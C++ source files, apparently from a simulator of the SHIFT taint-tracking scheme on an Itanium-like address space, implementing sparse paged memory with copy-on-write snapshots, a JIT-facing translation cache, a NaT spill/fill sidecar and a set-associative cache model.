#include "memory.hh"

#include <algorithm>
#include <cstring>

#include "support/logging.hh"

namespace shift
{

void
Memory::map(uint64_t base, uint64_t len)
{
    if (len == 0)
        return;
    uint64_t first = base >> kPageShift;
    uint64_t last = (base + len - 1) >> kPageShift;
    for (uint64_t p = first; p <= last; ++p) {
        auto &slot = pages_[p];
        if (!slot)
            slot = std::make_shared<Page>();
    }
    tlbFlush();
}

void
Memory::tlbFlush() const
{
    tlb_.fill(TlbEntry{});
    tagTlb_.fill(TlbEntry{});
}

Memory::Snapshot
Memory::snapshot() const
{
    // Sharing makes previously-exclusive pages shared, so any cached
    // writable=true entry would go stale-permissive: flush.
    tlbFlush();
    Snapshot snap;
    snap.pages_ = pages_;
    snap.summary_ = summary_;
    return snap;
}

void
Memory::restore(const Snapshot &snap)
{
    pages_ = snap.pages_;
    summary_ = snap.summary_;
    tlbFlush();
}

bool
Memory::isMapped(uint64_t addr) const
{
    return pages_.count(addr >> kPageShift) != 0;
}

Memory::Page *
Memory::pageFor(uint64_t addr, bool allocate, bool forWrite)
{
    uint64_t key = addr >> kPageShift;
    if (Page *cached = forWrite ? tlbLookupWritable(key) : tlbLookup(key))
        return cached;
    auto it = pages_.find(key);
    if (it != pages_.end()) {
        std::shared_ptr<Page> &slot = it->second;
        if (forWrite && slot.use_count() > 1) {
            // Write fault on a snapshot-shared page: replace it with a
            // private copy. The snapshot keeps the original alive, so
            // sibling clones (and cached read-only pointers) are
            // untouched.
            slot = std::make_shared<Page>(*slot);
            ++cowCopies_;
            if (cowHook_)
                cowHook_(addr);
        }
        tlbInsert(key, slot.get(), slot.use_count() == 1);
        return slot.get();
    }
    if (allocate || demandMapped(addr)) {
        auto page = std::make_shared<Page>();
        Page *raw = page.get();
        pages_[key] = std::move(page);
        tlbInsert(key, raw, true);
        return raw;
    }
    return nullptr;
}

const Memory::Page *
Memory::pageForConst(uint64_t addr) const
{
    uint64_t key = addr >> kPageShift;
    if (Page *cached = tlbLookup(key))
        return cached;
    auto it = pages_.find(key);
    if (it == pages_.end())
        return nullptr;
    tlbInsert(key, it->second.get(), it->second.use_count() == 1);
    return it->second.get();
}

MemFault
Memory::probe(uint64_t addr, unsigned size) const
{
    if (!isImplemented(addr) || (size && !isImplemented(addr + size - 1)))
        return MemFault::Unimplemented;
    for (uint64_t a = addr & ~(kPageSize - 1); a < addr + size;
         a += kPageSize) {
        if (!pageForConst(a) && !demandMapped(a))
            return MemFault::Unmapped;
    }
    return MemFault::None;
}

MemFault
Memory::readSlow(uint64_t addr, unsigned size, uint64_t &value)
{
    SHIFT_ASSERT(size == 1 || size == 2 || size == 4 || size == 8);
    uint64_t off = addr & (kPageSize - 1);
    if (off + size <= kPageSize) {
        // Single-page access that missed the translation cache: one
        // map lookup (which refills the cache) covers all bytes.
        if (!isImplemented(addr) || !isImplemented(addr + size - 1))
            return MemFault::Unimplemented;
        Page *page = pageFor(addr, false);
        if (!page)
            return MemFault::Unmapped;
        const uint8_t *bytes = page->data.data() + off;
        uint64_t v = 0;
        for (unsigned i = 0; i < size; ++i)
            v |= static_cast<uint64_t>(bytes[i]) << (8 * i);
        value = v;
        return MemFault::None;
    }

    // Page-crossing: probe everything first so a partial fault has no
    // side effects, then assemble byte by byte.
    MemFault fault = probe(addr, size);
    if (fault != MemFault::None)
        return fault;
    uint64_t v = 0;
    for (unsigned i = 0; i < size; ++i) {
        Page *page = pageFor(addr + i, false);
        SHIFT_ASSERT(page);
        uint64_t byteOff = (addr + i) & (kPageSize - 1);
        v |= static_cast<uint64_t>(page->data[byteOff]) << (8 * i);
    }
    value = v;
    return MemFault::None;
}

MemFault
Memory::writeSlow(uint64_t addr, unsigned size, uint64_t value)
{
    SHIFT_ASSERT(size == 1 || size == 2 || size == 4 || size == 8);
    uint64_t off = addr & (kPageSize - 1);
    if (off + size <= kPageSize) {
        if (!isImplemented(addr) || !isImplemented(addr + size - 1))
            return MemFault::Unimplemented;
        Page *page = pageFor(addr, false, true);
        if (!page)
            return MemFault::Unmapped;
        uint8_t *bytes = page->data.data() + off;
        for (unsigned i = 0; i < size; ++i)
            bytes[i] = static_cast<uint8_t>(value >> (8 * i));
        return MemFault::None;
    }

    MemFault fault = probe(addr, size);
    if (fault != MemFault::None)
        return fault;
    for (unsigned i = 0; i < size; ++i) {
        Page *page = pageFor(addr + i, false, true);
        SHIFT_ASSERT(page);
        uint64_t byteOff = (addr + i) & (kPageSize - 1);
        page->data[byteOff] = static_cast<uint8_t>(value >> (8 * i));
    }
    return MemFault::None;
}

MemFault
Memory::writeSpillSlow(uint64_t addr, uint64_t value, bool nat)
{
    MemFault fault = write(addr, 8, value);
    if (fault != MemFault::None)
        return fault;
    Page *page = pageFor(addr, false, true);
    uint64_t word = (addr & (kPageSize - 1)) >> 3;
    uint64_t &bits = page->nat[word >> 6];
    uint64_t mask = 1ULL << (word & 63);
    bits = nat ? (bits | mask) : (bits & ~mask);
    return MemFault::None;
}

MemFault
Memory::readFillSlow(uint64_t addr, uint64_t &value, bool &nat)
{
    MemFault fault = read(addr, 8, value);
    if (fault != MemFault::None)
        return fault;
    const Page *page = pageForConst(addr);
    SHIFT_ASSERT(page);
    uint64_t word = (addr & (kPageSize - 1)) >> 3;
    nat = (page->nat[word >> 6] >> (word & 63)) & 1;
    return MemFault::None;
}

uint64_t
Memory::contentHash(int region) const
{
    // Sorted page keys so the digest is independent of map iteration
    // order; all-zero pages are skipped so demand-allocating a page
    // one run never touched does not perturb the hash.
    std::vector<uint64_t> keys;
    keys.reserve(pages_.size());
    for (const auto &entry : pages_) {
        if (region >= 0 &&
            regionOf(entry.first << kPageShift) != unsigned(region))
            continue;
        keys.push_back(entry.first);
    }
    std::sort(keys.begin(), keys.end());

    auto mix = [](uint64_t h, uint64_t v) {
        h ^= v + 0x9e3779b97f4a7c15ULL + (h << 6) + (h >> 2);
        return h * 0xff51afd7ed558ccdULL;
    };

    uint64_t hash = 0x5851f42d4c957f2dULL;
    for (uint64_t key : keys) {
        const Page &page = *pages_.at(key);
        bool zero = true;
        for (size_t i = 0; i < kPageSize && zero; i += 8)
            zero = loadLe(page.data.data() + i, 8) == 0;
        for (uint64_t natWord : page.nat)
            zero = zero && natWord == 0;
        if (zero)
            continue;
        hash = mix(hash, key);
        for (size_t i = 0; i < kPageSize; i += 8)
            hash = mix(hash, loadLe(page.data.data() + i, 8));
        for (uint64_t natWord : page.nat)
            hash = mix(hash, natWord);
    }
    return hash;
}

MemFault
Memory::readBytes(uint64_t addr, void *out, uint64_t len)
{
    // Page-wise: one translation per 4 KiB instead of per byte. The
    // OS layer moves whole request/response/file buffers through
    // here, which made the per-byte loop a top host cost on server
    // workloads. Implemented-ness is constant within a page, so one
    // check per chunk covers every byte of it.
    uint8_t *dst = static_cast<uint8_t *>(out);
    while (len > 0) {
        if (!isImplemented(addr))
            return MemFault::Unimplemented;
        uint64_t off = addr & (kPageSize - 1);
        uint64_t chunk = std::min(len, kPageSize - off);
        Page *page = pageFor(addr, false);
        if (!page)
            return MemFault::Unmapped;
        std::memcpy(dst, page->data.data() + off, chunk);
        dst += chunk;
        addr += chunk;
        len -= chunk;
    }
    return MemFault::None;
}

MemFault
Memory::writeBytes(uint64_t addr, const void *src, uint64_t len)
{
    const uint8_t *bytes = static_cast<const uint8_t *>(src);
    while (len > 0) {
        uint64_t off = addr & (kPageSize - 1);
        uint64_t chunk = std::min(len, kPageSize - off);
        if (regionOf(addr) == kTagRegion) {
            // Tag-space stores must maintain the taint summary; keep
            // the per-byte path (bulk copies into the bitmap are not
            // a hot pattern).
            for (uint64_t i = 0; i < chunk; ++i) {
                MemFault fault = write(addr + i, 1, bytes[i]);
                if (fault != MemFault::None)
                    return fault;
            }
        } else {
            if (!isImplemented(addr))
                return MemFault::Unimplemented;
            Page *page = pageFor(addr, false, true);
            if (!page)
                return MemFault::Unmapped;
            std::memcpy(page->data.data() + off, bytes, chunk);
        }
        bytes += chunk;
        addr += chunk;
        len -= chunk;
    }
    return MemFault::None;
}

MemFault
Memory::readCString(uint64_t addr, std::string &out, uint64_t maxLen)
{
    out.clear();
    uint64_t remaining = maxLen;
    while (remaining > 0) {
        if (!isImplemented(addr))
            return MemFault::Unimplemented;
        uint64_t off = addr & (kPageSize - 1);
        uint64_t chunk = std::min(remaining, kPageSize - off);
        Page *page = pageFor(addr, false);
        if (!page)
            return MemFault::Unmapped;
        const uint8_t *p = page->data.data() + off;
        const void *nul = std::memchr(p, 0, chunk);
        if (nul) {
            out.append(reinterpret_cast<const char *>(p),
                       static_cast<size_t>(
                           static_cast<const uint8_t *>(nul) - p));
            return MemFault::None;
        }
        out.append(reinterpret_cast<const char *>(p), chunk);
        addr += chunk;
        remaining -= chunk;
    }
    return MemFault::None;
}

} // namespace shift
