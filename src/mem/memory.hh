/**
 * @file
 * Sparse paged simulated memory with a spill/fill NaT sidecar.
 *
 * Data is stored in demand-allocated 4 KiB pages. Each page carries one
 * NaT bit per 8-byte word, written only by st8.spill and read only by
 * ld8.fill: this folds the compiler's UNAT-window bookkeeping into the
 * memory model (see DESIGN.md section 5.2). Ordinary loads and stores
 * never touch the sidecar, so taint for normal data flows exclusively
 * through SHIFT's software-managed bitmap, exactly as in the paper.
 *
 * Regions 0 (tag space) and 4 (OS scratch) are demand-mapped: a touch
 * allocates a zero page. All other regions must be mapped explicitly
 * (by the loader / sbrk / stack setup); access to unmapped addresses
 * faults, which is what lets a speculative load manufacture a NaT.
 *
 * Pages are reference-counted and copy-on-write. snapshot() captures
 * the current address space by sharing every page; restore() adopts a
 * snapshot's pages wholesale. A write to a page that is shared with a
 * snapshot (or with a sibling Memory restored from the same snapshot)
 * copies that one page first, so forking a runnable clone from a
 * post-load snapshot costs O(pages actually dirtied), not O(address
 * space). Shared pages are only ever read concurrently; each clone
 * dirties private copies, which is what makes fleets of machines
 * forked from one snapshot safe to run on concurrent threads.
 */

#ifndef SHIFT_MEM_MEMORY_HH
#define SHIFT_MEM_MEMORY_HH

#include <array>
#include <cstddef>
#include <cstdint>
#include <cstring>
#include <functional>
#include <memory>
#include <string>
#include <unordered_map>
#include <vector>

#include "mem/address_space.hh"
#include "mem/taint_summary.hh"

namespace shift
{

/** Memory access outcomes. */
enum class MemFault : uint8_t
{
    None,          ///< success
    Unmapped,      ///< no page at this address
    Unimplemented, ///< address has unimplemented bits set
};

/** Sparse paged memory. */
class Memory
{
  public:
    static constexpr unsigned kPageShift = 12;
    static constexpr uint64_t kPageSize = 1ULL << kPageShift;

    Memory() = default;

    // Pages are shared with snapshots by design, but two Memory objects
    // must never share pages through an accidental copy: aliasing would
    // bypass the copy-on-write discipline. Clones are made via
    // snapshot()/restore().
    Memory(const Memory &) = delete;
    Memory &operator=(const Memory &) = delete;

    /**
     * Map [base, base+len): allocates zeroed pages. Invalidates the
     * page-translation cache.
     */
    void map(uint64_t base, uint64_t len);

    /** True when the byte at addr is backed by a page. */
    bool isMapped(uint64_t addr) const;

    /**
     * Check whether an access of `size` bytes at addr would succeed,
     * without allocating demand pages.
     */
    MemFault probe(uint64_t addr, unsigned size) const;

    /**
     * Read `size` bytes (1/2/4/8), little-endian, zero-extended.
     *
     * The body is inline so the interpreter's load path pays only a
     * translation-cache probe and one fixed-size access when the page
     * is cached; everything else (first touch, page-crossing access,
     * unimplemented bits, faults) drops to the out-of-line slow path.
     * A cache hit needs no isImplemented() check: only implemented
     * page keys are ever inserted (see tlbInsert).
     */
    MemFault
    read(uint64_t addr, unsigned size, uint64_t &value)
    {
        uint64_t off = addr & (kPageSize - 1);
        Page *page = tlbLookup(addr >> kPageShift);
        if (page && off + size <= kPageSize) {
            value = loadLe(page->data.data() + off, size);
            return MemFault::None;
        }
        return readSlow(addr, size, value);
    }

    /**
     * Write the low `size` bytes of value. Inline twin of read(), but
     * the fast path additionally requires the cached page to be
     * exclusively owned: writes to snapshot-shared pages drop to the
     * slow path, which performs the copy-on-write.
     */
    MemFault
    write(uint64_t addr, unsigned size, uint64_t value)
    {
        // Taint-summary maintenance rides the store path, ahead of the
        // fast/slow split so every route (TLB hit, COW fault, demand
        // map, host-side TaintMap::setBit) is covered. Marking before
        // the fault checks can over-mark on a write that then faults;
        // the summary is conservative by contract, so that only costs
        // a deopt, never soundness.
        if (regionOf(addr) == kTagRegion && value != 0)
            summary_.mark(addr, size);
        uint64_t off = addr & (kPageSize - 1);
        Page *page = tlbLookupWritable(addr >> kPageShift);
        if (page && off + size <= kPageSize) {
            storeLe(page->data.data() + off, size, value);
            return MemFault::None;
        }
        return writeSlow(addr, size, value);
    }

    /**
     * st8.spill: write a word plus its NaT bit to the sidecar. Inline
     * twin of write(): a translation-cache hit covers both the data
     * and the per-page NaT sidecar, so spills pay no page lookup. The
     * sidecar tracks whole words; unaligned spills are not generated
     * by any of our passes but would round down here.
     */
    MemFault
    writeSpill(uint64_t addr, uint64_t value, bool nat)
    {
        // No pass spills into the tag space, but the summary contract
        // (dirty covers every nonzero bitmap byte) must hold for any
        // program the machine can run.
        if (regionOf(addr) == kTagRegion && value != 0)
            summary_.mark(addr, 8);
        uint64_t off = addr & (kPageSize - 1);
        Page *page = tlbLookupWritable(addr >> kPageShift);
        if (page && off + 8 <= kPageSize) {
            storeLe(page->data.data() + off, 8, value);
            uint64_t word = off >> 3;
            uint64_t &bits = page->nat[word >> 6];
            uint64_t mask = 1ULL << (word & 63);
            bits = nat ? (bits | mask) : (bits & ~mask);
            return MemFault::None;
        }
        return writeSpillSlow(addr, value, nat);
    }

    /** ld8.fill: read a word plus its sidecar NaT bit. */
    MemFault
    readFill(uint64_t addr, uint64_t &value, bool &nat)
    {
        uint64_t off = addr & (kPageSize - 1);
        const Page *page = tlbLookup(addr >> kPageShift);
        if (page && off + 8 <= kPageSize) {
            value = loadLe(page->data.data() + off, 8);
            uint64_t word = off >> 3;
            nat = (page->nat[word >> 6] >> (word & 63)) & 1;
            return MemFault::None;
        }
        return readFillSlow(addr, value, nat);
    }

    /** Bulk host-side copy out of simulated memory. */
    MemFault readBytes(uint64_t addr, void *out, uint64_t len);

    /** Bulk host-side copy into simulated memory. */
    MemFault writeBytes(uint64_t addr, const void *src, uint64_t len);

    /** Read a NUL-terminated string (bounded by maxLen). */
    MemFault readCString(uint64_t addr, std::string &out,
                         uint64_t maxLen = 1 << 20);

    /** Number of pages currently allocated. */
    size_t pageCount() const { return pages_.size(); }

    /**
     * Order-independent digest of the address space: data bytes and
     * the NaT sidecar of every non-zero page, keyed by page address.
     * Two memories whose mapped contents are byte-identical hash
     * equal even if their page maps were populated in different
     * orders or one demand-allocated zero pages the other never
     * touched. `region` restricts the digest to one region (e.g. the
     * tag space for taint-bitmap comparison); -1 hashes everything.
     * Walks every page: for end-of-run differential checks, not hot
     * paths.
     */
    uint64_t contentHash(int region = -1) const;

    /**
     * Visit every mapped page whose base address falls in `region`:
     * fn(baseAddr, data) with `data` the page's 4 KiB byte array.
     * Unspecified order. For bulk bootstrap copies (e.g. the async
     * taint tier shadowing the tag space), not hot paths.
     */
    template <typename Fn>
    void
    forEachPage(unsigned region, Fn &&fn) const
    {
        for (const auto &entry : pages_) {
            uint64_t base = entry.first << kPageShift;
            if (regionOf(base) == region)
                fn(base, entry.second->data.data());
        }
    }

    /**
     * Enable or disable the page-translation cache (enabled by
     * default). The legacy execution engine disables it so it stays a
     * faithful pre-change baseline — every access pays the hash-map
     * translation, as the original stepper did — which also lets the
     * engine-equivalence tests prove the cache is semantics-preserving.
     */
    void
    setTranslationCacheEnabled(bool enabled)
    {
        tlbEnabled_ = enabled;
        tlbFlush();
    }

  private:
    struct Page
    {
        std::array<uint8_t, kPageSize> data{};
        /** One NaT bit per 8-byte word: kPageSize/8 = 512 bits. */
        std::array<uint64_t, kPageSize / 8 / 64> nat{};
    };

  public:
    /**
     * An immutable capture of the whole address space: every page
     * shared by reference, data and NaT sidecar alike. Cheap to take
     * (one map copy, no page copies) and to restore from; a snapshot
     * keeps its pages alive and read-only-shared for as long as it
     * exists.
     */
    class Snapshot
    {
      public:
        /** Pages captured (also the O() cost of taking it: map only). */
        size_t pageCount() const { return pages_.size(); }

      private:
        friend class Memory;
        std::unordered_map<uint64_t, std::shared_ptr<Page>> pages_;
        /**
         * Taint summary at capture time, by value. restore() adopts a
         * private copy, so clones forked from one snapshot share no
         * summary state — a clone dirtying a line never poisons a
         * sibling's fast path.
         */
        TaintSummary summary_;
    };

    /** Capture the current address space by sharing every page. */
    Snapshot snapshot() const;

    /**
     * Replace the address space with a snapshot's pages (shared; this
     * Memory copies a page the first time it writes to it). Existing
     * pages are dropped.
     */
    void restore(const Snapshot &snap);

    /** Pages copied by write-fault-time COW since construction. */
    uint64_t cowCopies() const { return cowCopies_; }

    /**
     * Observer for write-fault-time COW page copies, called with the
     * faulting address. Only ever invoked on the (rare) copy itself,
     * so the hot translation path pays nothing. The machine wires the
     * flight recorder's CowCopy event through this.
     */
    void setCowHook(std::function<void(uint64_t)> hook)
    {
        cowHook_ = std::move(hook);
    }

    /**
     * Hierarchical dirty bits over the tag space, maintained on the
     * store path. The fast-path probes read it; nothing else should.
     */
    const TaintSummary &taintSummary() const { return summary_; }

    /**
     * The indexed translation-cache entries, for the JIT's inline
     * load/store fast paths (entry layout pinned below). The array
     * lives for the Memory's lifetime; compiled code re-reads entries
     * on every access, so fills and flushes need no notification. The
     * tag region's own entries are exposed separately (jitTagTlb).
     */
    const void *jitTlb() const { return tlb_.data(); }

    /**
     * The tag region's dedicated translation-cache entries (same
     * layout as jitTlb() entries, indexed by key like tlbSlot), for
     * the JIT's inline FusedChk fast paths: their taint-bitmap reads
     * are the one tag-space access pattern hot enough to warrant
     * bypassing the helpers. Data-side inline paths still exclude
     * region 0 — stores there must mark the taint summary, which
     * stays the helpers' job.
     */
    const void *jitTagTlb() const { return tagTlb_.data(); }

    /** Geometry of the jitTlb()/jitTagTlb() arrays. */
    static constexpr size_t kJitTlbEntries = 16;
    static constexpr size_t kJitTagTlbEntries = 4;
    static constexpr size_t kJitTlbEntrySize = 24;

    /**
     * Byte offset of a page's NaT sidecar (checked against Page): the
     * JIT's inline spill/fill fast paths address it directly.
     */
    static constexpr size_t kJitPageNatOff = kPageSize;

  private:
    /**
     * Fetch the page backing addr, honouring demand-map regions. With
     * `forWrite`, a page shared with a snapshot is first replaced by a
     * private copy (the write-fault-time COW).
     */
    Page *pageFor(uint64_t addr, bool allocate, bool forWrite = false);
    const Page *pageForConst(uint64_t addr) const;

    /** Out-of-line general read/write paths behind the inline pair. */
    MemFault readSlow(uint64_t addr, unsigned size, uint64_t &value);
    MemFault writeSlow(uint64_t addr, unsigned size, uint64_t value);
    MemFault writeSpillSlow(uint64_t addr, uint64_t value, bool nat);
    MemFault readFillSlow(uint64_t addr, uint64_t &value, bool &nat);

    // Fixed-size little-endian accessors: memcpy compiles to one host
    // load/store per size (the simulated ISA is little-endian and so
    // are the supported hosts; the slow path's byte loops stay the
    // reference definition).
    static uint64_t
    loadLe(const uint8_t *p, unsigned size)
    {
        switch (size) {
          case 1:
            return *p;
          case 2: {
            uint16_t v;
            std::memcpy(&v, p, 2);
            return v;
          }
          case 4: {
            uint32_t v;
            std::memcpy(&v, p, 4);
            return v;
          }
          default: {
            uint64_t v;
            std::memcpy(&v, p, 8);
            return v;
          }
        }
    }

    static void
    storeLe(uint8_t *p, unsigned size, uint64_t value)
    {
        switch (size) {
          case 1:
            *p = static_cast<uint8_t>(value);
            break;
          case 2: {
            uint16_t v = static_cast<uint16_t>(value);
            std::memcpy(p, &v, 2);
            break;
          }
          case 4: {
            uint32_t v = static_cast<uint32_t>(value);
            std::memcpy(p, &v, 4);
            break;
          }
          default:
            std::memcpy(p, &value, 8);
            break;
        }
    }

    static bool
    demandMapped(uint64_t addr)
    {
        unsigned region = regionOf(addr);
        return region == kTagRegion || region == kOsRegion;
    }

    // ----- page-translation cache ---------------------------------------
    //
    // A small direct-mapped (pageKey -> Page*) cache consulted before
    // the unordered_map, so the hot interpreter paths (every load,
    // store and taint-bitmap probe) skip the hash lookup. The tag
    // space (region 0) gets a dedicated entry: SHIFT-instrumented code
    // interleaves one bitmap access with nearly every data access, and
    // sharing the indexed entries would make them thrash. A page
    // replaced by COW stays alive through the snapshot that shares it,
    // so cached pointers cannot dangle; the cache is flushed on map(),
    // snapshot() and restore() so no entry outlives an address-space
    // or sharing change. Negative results are never cached (a miss may
    // be a demand-map allocation the next access performs).
    //
    // Each entry carries a `writable` bit: the write fast paths honour
    // it so a snapshot-shared page can be read through the cache but
    // never written in place. The bit is the ownership state at insert
    // time; a page can only *become* shared through snapshot(), which
    // flushes, so a cached writable=true is never stale-permissive.

    struct TlbEntry
    {
        uint64_t key = kNoPageKey;
        Page *page = nullptr;
        bool writable = false;
    };

    /** No valid page key has all bits set (keys are va >> 12). */
    static constexpr uint64_t kNoPageKey = ~0ULL;
    static constexpr size_t kTlbEntries = 16;   ///< power of two
    // The instrumented stream's bitmap checks bounce between a few
    // tag pages (source, destination, stack tags), so the tag region
    // gets a small indexed set instead of one entry.
    static constexpr size_t kTagTlbEntries = 4; ///< power of two

    // The JIT's inline load/store fast paths (src/jit/compiler.cc)
    // probe the indexed entries directly through jitTlb(), so the
    // entry and page layouts are baked into emitted code.
    static_assert(offsetof(TlbEntry, key) == 0 &&
                      offsetof(TlbEntry, page) == 8 &&
                      offsetof(TlbEntry, writable) == 16 &&
                      sizeof(TlbEntry) == kJitTlbEntrySize &&
                      kTlbEntries == kJitTlbEntries &&
                      kTagTlbEntries == kJitTagTlbEntries,
                  "TlbEntry layout is baked into JIT-emitted code");
    static_assert(offsetof(Page, data) == 0 &&
                      offsetof(Page, nat) == kJitPageNatOff,
                  "Page layout is baked into JIT-emitted code");

    Page *
    tlbLookup(uint64_t key) const
    {
        const TlbEntry &e = tlbSlot(key);
        return e.key == key ? e.page : nullptr;
    }

    /** Write-path twin of tlbLookup: only exclusively-owned pages. */
    Page *
    tlbLookupWritable(uint64_t key) const
    {
        const TlbEntry &e = tlbSlot(key);
        return e.key == key && e.writable ? e.page : nullptr;
    }

    void
    tlbInsert(uint64_t key, Page *page, bool writable) const
    {
        if (!tlbEnabled_)
            return;
        // Only implemented addresses may enter the cache: a hit must
        // prove the fast paths need no unimplemented-bits check, and
        // isImplemented() depends only on bits the page key contains.
        if (!isImplemented(key << kPageShift))
            return;
        TlbEntry &e = tlbSlot(key);
        e.key = key;
        e.page = page;
        e.writable = writable;
    }

    TlbEntry &
    tlbSlot(uint64_t key) const
    {
        if ((key >> (kRegionShift - kPageShift)) == kTagRegion)
            return tagTlb_[key & (kTagTlbEntries - 1)];
        return tlb_[key & (kTlbEntries - 1)];
    }

    void tlbFlush() const;

    std::unordered_map<uint64_t, std::shared_ptr<Page>> pages_;
    uint64_t cowCopies_ = 0;
    std::function<void(uint64_t)> cowHook_;
    TaintSummary summary_;
    // Mutable: a translation cache is transparent state, filled on the
    // const read paths too.
    mutable std::array<TlbEntry, kTlbEntries> tlb_{};
    mutable std::array<TlbEntry, kTagTlbEntries> tagTlb_{};
    bool tlbEnabled_ = true;
};

} // namespace shift

#endif // SHIFT_MEM_MEMORY_HH
