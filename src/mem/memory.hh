/**
 * @file
 * Sparse paged simulated memory with a spill/fill NaT sidecar.
 *
 * Data is stored in demand-allocated 4 KiB pages. Each page carries one
 * NaT bit per 8-byte word, written only by st8.spill and read only by
 * ld8.fill: this folds the compiler's UNAT-window bookkeeping into the
 * memory model (see DESIGN.md section 5.2). Ordinary loads and stores
 * never touch the sidecar, so taint for normal data flows exclusively
 * through SHIFT's software-managed bitmap, exactly as in the paper.
 *
 * Regions 0 (tag space) and 4 (OS scratch) are demand-mapped: a touch
 * allocates a zero page. All other regions must be mapped explicitly
 * (by the loader / sbrk / stack setup); access to unmapped addresses
 * faults, which is what lets a speculative load manufacture a NaT.
 */

#ifndef SHIFT_MEM_MEMORY_HH
#define SHIFT_MEM_MEMORY_HH

#include <array>
#include <cstdint>
#include <memory>
#include <string>
#include <unordered_map>
#include <vector>

#include "mem/address_space.hh"

namespace shift
{

/** Memory access outcomes. */
enum class MemFault : uint8_t
{
    None,          ///< success
    Unmapped,      ///< no page at this address
    Unimplemented, ///< address has unimplemented bits set
};

/** Sparse paged memory. */
class Memory
{
  public:
    static constexpr unsigned kPageShift = 12;
    static constexpr uint64_t kPageSize = 1ULL << kPageShift;

    Memory() = default;

    /** Map [base, base+len): allocates zeroed pages. */
    void map(uint64_t base, uint64_t len);

    /** True when the byte at addr is backed by a page. */
    bool isMapped(uint64_t addr) const;

    /**
     * Check whether an access of `size` bytes at addr would succeed,
     * without allocating demand pages.
     */
    MemFault probe(uint64_t addr, unsigned size) const;

    /** Read `size` bytes (1/2/4/8), little-endian, zero-extended. */
    MemFault read(uint64_t addr, unsigned size, uint64_t &value);

    /** Write the low `size` bytes of value. */
    MemFault write(uint64_t addr, unsigned size, uint64_t value);

    /** st8.spill: write a word plus its NaT bit to the sidecar. */
    MemFault writeSpill(uint64_t addr, uint64_t value, bool nat);

    /** ld8.fill: read a word plus its sidecar NaT bit. */
    MemFault readFill(uint64_t addr, uint64_t &value, bool &nat);

    /** Bulk host-side copy out of simulated memory. */
    MemFault readBytes(uint64_t addr, void *out, uint64_t len);

    /** Bulk host-side copy into simulated memory. */
    MemFault writeBytes(uint64_t addr, const void *src, uint64_t len);

    /** Read a NUL-terminated string (bounded by maxLen). */
    MemFault readCString(uint64_t addr, std::string &out,
                         uint64_t maxLen = 1 << 20);

    /** Number of pages currently allocated. */
    size_t pageCount() const { return pages_.size(); }

  private:
    struct Page
    {
        std::array<uint8_t, kPageSize> data{};
        /** One NaT bit per 8-byte word: kPageSize/8 = 512 bits. */
        std::array<uint64_t, kPageSize / 8 / 64> nat{};
    };

    /** Fetch the page backing addr, honouring demand-map regions. */
    Page *pageFor(uint64_t addr, bool allocate);
    const Page *pageForConst(uint64_t addr) const;

    static bool
    demandMapped(uint64_t addr)
    {
        unsigned region = regionOf(addr);
        return region == kTagRegion || region == kOsRegion;
    }

    std::unordered_map<uint64_t, std::unique_ptr<Page>> pages_;
};

} // namespace shift

#endif // SHIFT_MEM_MEMORY_HH
