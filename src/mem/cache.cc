#include "cache.hh"

#include "support/bitops.hh"
#include "support/logging.hh"

namespace shift
{

Cache::Cache(const Params &params) : params_(params)
{
    SHIFT_ASSERT(isPowerOf2(params_.lineBytes));
    SHIFT_ASSERT(params_.assoc > 0);
    lineShift_ = 0;
    while ((1U << lineShift_) < params_.lineBytes)
        ++lineShift_;
    uint64_t numLines = params_.sizeBytes / params_.lineBytes;
    SHIFT_ASSERT(numLines % params_.assoc == 0);
    numSets_ = static_cast<unsigned>(numLines / params_.assoc);
    SHIFT_ASSERT(isPowerOf2(numSets_));
    lines_.resize(numLines);
}

void
Cache::fill(Line *ways, uint64_t tag)
{
    Line *victim = &ways[0];
    for (unsigned w = 0; w < params_.assoc; ++w) {
        Line &line = ways[w];
        if (!line.valid) {
            victim = &line;
            break;
        }
        if (line.lru < victim->lru)
            victim = &line;
    }
    victim->valid = true;
    victim->tag = tag;
    victim->lru = tick_;
    ++misses_;
}

void
Cache::reset()
{
    for (Line &line : lines_)
        line = Line{};
    tick_ = 0;
    hits_ = 0;
    misses_ = 0;
}

} // namespace shift
