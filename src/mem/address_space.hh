/**
 * @file
 * Itanium-style virtual address space: regions and unimplemented bits.
 *
 * The 64-bit virtual address space is partitioned into eight
 * equally-sized regions selected by VA[63:61]. Within a region only the
 * low kImplementedBits offset bits are implemented; addresses with any
 * bit set in the "unimplemented hole" (bits 60..kImplementedBits) are
 * illegal and fault. This hole is why SHIFT cannot translate a virtual
 * address to a tag address with one shift (paper section 4.1, figure 4):
 * it must move the region number down next to the implemented bits
 * before shifting, which makes tag-address computation the dominant
 * instrumentation cost (figure 9).
 *
 * Region roles in this system:
 *   0 - tag space (reclaimed; reserved for IA-32 on real Itanium)
 *   1 - function descriptors (code "addresses")
 *   2 - globals and heap
 *   3 - stacks
 *   4 - OS scratch (argument/IO staging)
 */

#ifndef SHIFT_MEM_ADDRESS_SPACE_HH
#define SHIFT_MEM_ADDRESS_SPACE_HH

#include <cstdint>

namespace shift
{

/** Implemented offset bits within a region. */
constexpr unsigned kImplementedBits = 36;

/** Bit position of the region number. */
constexpr unsigned kRegionShift = 61;

/** Region roles. */
constexpr unsigned kTagRegion = 0;
constexpr unsigned kCodeRegion = 1;
constexpr unsigned kDataRegion = 2;
constexpr unsigned kStackRegion = 3;
constexpr unsigned kOsRegion = 4;

/** Base virtual address of a region. */
constexpr uint64_t
regionBase(unsigned region)
{
    return static_cast<uint64_t>(region) << kRegionShift;
}

/** Region number of a virtual address. */
constexpr unsigned
regionOf(uint64_t va)
{
    return static_cast<unsigned>(va >> kRegionShift);
}

/** Offset of a virtual address within its region. */
constexpr uint64_t
regionOffset(uint64_t va)
{
    return va & ((1ULL << kImplementedBits) - 1);
}

/**
 * True when the address touches no unimplemented bits. Bits
 * [60:kImplementedBits] must all be zero.
 */
constexpr bool
isImplemented(uint64_t va)
{
    uint64_t hole = (va >> kImplementedBits) &
                    ((1ULL << (kRegionShift - kImplementedBits)) - 1);
    return hole == 0;
}

/**
 * A guaranteed-invalid address (inside the unimplemented hole). The
 * SHIFT instrumenter speculatively loads from it to conjure a register
 * whose NaT bit is set (paper figure 5, instruction 1).
 */
constexpr uint64_t kInvalidAddress = 1ULL << kImplementedBits;

/** Tag-tracking granularity. */
enum class Granularity : uint8_t
{
    Byte, ///< one tag bit per byte of memory
    Word, ///< one tag bit per 8-byte word ("word" = 8 bytes in the paper)
};

/** log2(bytes covered by one tag bit). */
constexpr unsigned
granularityShift(Granularity g)
{
    return g == Granularity::Byte ? 0 : 3;
}

/**
